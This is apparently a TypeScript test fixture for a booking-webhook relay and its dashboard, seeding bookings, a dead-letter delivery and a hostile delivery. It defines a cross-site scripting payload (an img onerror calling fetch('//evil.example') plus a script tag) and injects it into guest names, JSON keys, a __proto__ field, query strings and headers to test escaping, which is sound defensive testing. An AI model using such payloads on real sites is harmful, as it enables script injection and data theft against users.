import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { Test } from 'tap'
import { build } from 'vite'
import type { TestRelay } from '../open-relay.ts'
import { booking, CONNECTION, openOperated, tell } from '../operate/operator.ts'

const HOUR_MS = 3_600_000
const MINUTE_MS = 60_000

/** Of a guest who means harm, and of whatever else can be written by somebody outside. */
export const HOSTILE = `<img src=x onerror="document.title='owned';fetch('//evil.example')"><script>alert(1)</script>`

/** What was put into the relay, for somebody to look for. */
export interface Filled {
  /** The key at Seam of the stay that somebody asks for at night. */
  stay: string
  /** The platform's id of its booking. */
  booking: string
  /** A delivery that is a dead letter, and would go through by now. */
  dead: string
  /** A delivery with all sorts of tricks in it. */
  hostile: string
}

/** The dashboard of the sources as they are now, whenever `npm run build` was run last. */
async function buildDashboard(t: Pick<Test, 'teardown'>): Promise<string> {
  const folder = mkdtempSync(join(tmpdir(), 'seam-relay-dashboard-'))
  t.teardown(() => rmSync(folder, { recursive: true }))
  await build({ logLevel: 'warn', build: { outDir: folder, emptyOutDir: true, sourcemap: false } })
  return folder
}

/** A relay with its dashboard, and with something to look at. From when it is filled it runs, by the machine's clock. */
export async function openDashboard(t: Test): Promise<{ relay: TestRelay; filled: Filled }> {
  const dashboard = await buildDashboard(t)
  const relay = await openOperated(t, { dashboard, now: Date.now() - 3 * HOUR_MS })
  const filled = await fill(relay)
  Object.defineProperty(relay.clock, 'now', { get: Date.now })
  relay.relay.run()
  return { relay, filled }
}

async function fill(relay: TestRelay): Promise<Filled> {
  const { store, clock } = relay
  const day = (days: number) => new Date(clock.now + days * 24 * HOUR_MS).toISOString().slice(0, 10)
  const first = { ...booking, id: '40192', arrival: day(1), departure: day(4), updatedAt: clock.now }
  const [told = ''] = await tell(relay, first)
  await relay.settle()
  const [stay] = await store.db
    .selectFrom('change_log')
    .select(['key', 'booking'])
    .where('delivery_id', '=', told)
    .where('kind', '=', 'reservation')
    .execute()
  await relay.misbehave({ fail: [{ times: 1, status: 500 }] })
  // Whether time has passed by itself depends on the hour: a stay that begins within a day waits for nothing.
  clock.now += MINUTE_MS
  const longer = { ...first, departure: day(5), updatedAt: clock.now }
  await tell(relay, longer, first)
  await relay.settle()
  // Late, and so without effect.
  await tell(relay, first)

  await tell(relay, {
    ...booking,
    id: '40666',
    guest: { id: 'g6', name: HOSTILE, email: 'mallory@example.com', phone: '+12125550199' },
    rooms: [{ id: HOSTILE, place: HOSTILE }],
    arrival: day(2),
    departure: day(3),
    updatedAt: clock.now
  })
  const hostile = await relay.deliver(CONNECTION, {
    event: 'reservation.created',
    body: JSON.stringify({
      id: HOSTILE,
      action: 'reservation.created',
      data: { [HOSTILE]: HOSTILE, guest: { first_name: HOSTILE, __proto__: HOSTILE } }
    })
  })
  await relay.post(`/webhooks/hospitable/${CONNECTION}?${new URLSearchParams({ [HOSTILE]: HOSTILE })}`, {
    headers: { 'content-type': 'application/json', 'x-harm': HOSTILE, 'user-agent': HOSTILE },
    body: JSON.stringify({ action: HOSTILE })
  })
  const [dead = ''] = await tell(relay, { ...booking, id: '40777', updatedAt: clock.now })
  await relay.settle()
  await store.db
    .updateTable('deliveries')
    .set({ state: 'dead', last_error: 'the adapter of that time could not read it' })
    .where('id', '=', dead)
    .execute()
  const bookingId = String(stay?.booking).slice(CONNECTION.length + 1)
  return { stay: String(stay?.key), booking: bookingId, dead, hostile: String(hostile.body.delivery_id) }
}
